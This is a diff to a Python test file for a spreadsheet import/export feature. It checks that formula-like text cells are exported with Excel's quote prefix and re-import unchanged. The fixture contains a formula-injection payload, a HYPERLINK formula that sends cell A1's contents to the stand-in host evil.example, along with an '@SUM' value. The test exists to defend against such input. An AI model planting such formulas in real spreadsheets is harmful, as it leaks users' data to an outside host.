@@ -83,24 +83,33 @@ def test_a_count_larger_than_a_column_holds_is_a_problem_on_both_engines(db_engi
     assert "数量最多为 2,147,483,647" in report.errors[0].message
 
 
-def test_the_master_export_writes_formula_like_texts_as_text(db_engine):
+def test_the_master_export_writes_formula_like_texts_as_text_and_reads_them_back(db_engine):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"看")'
     book = Workbook()
     sheet = book.active
     sheet.title = "品牌"
     sheet.append(["名称", "说明", "别名"])
-    sheet.append(["恶意品牌", '=HYPERLINK("http://evil.example/?"&A1,"看")', "@SUM(1+1)"])
+    sheet.append(["恶意品牌", formula, "@SUM(1+1)"])
     sheet["B2"].data_type = sheet["C2"].data_type = "s"
     buffer = io.BytesIO()
     book.save(buffer)
     with db_engine.begin() as conn:
         assert import_workbook(conn, ADMIN, buffer.getvalue(), "m.xlsx").status == "accepted"
     with db_engine.connect() as conn:
-        exported = load_workbook(io.BytesIO(export_workbook(conn, ADMIN, record=False)))
-    row = next(r for r in exported["品牌"].iter_rows(min_row=2) if r[0].value == "恶意品牌")
-    assert [(c.value, c.data_type) for c in row[1:3]] == [
-        ('\'=HYPERLINK("http://evil.example/?"&A1,"看")', "s"),
-        ("'@SUM(1+1)", "s"),
+        exported = export_workbook(conn, ADMIN, record=False)
+    row = next(
+        r
+        for r in load_workbook(io.BytesIO(exported))["品牌"].iter_rows(min_row=2)
+        if r[0].value == "恶意品牌"
+    )
+    # Text cells with Excel's quote prefix: never run, not even once edited, and as written.
+    assert [(c.value, c.data_type, c.quotePrefix) for c in row[1:3]] == [
+        (formula, "s", True),
+        ("@SUM(1+1)", "s", True),
     ]
+    with db_engine.begin() as conn:  # the round trip changes nothing
+        again = import_workbook(conn, ADMIN, exported, "master.xlsx")
+        assert (again.status, again.rows_replaced) == ("unchanged", 0)
 
 
 def test_a_weight_beyond_its_range_is_a_problem(db_engine):
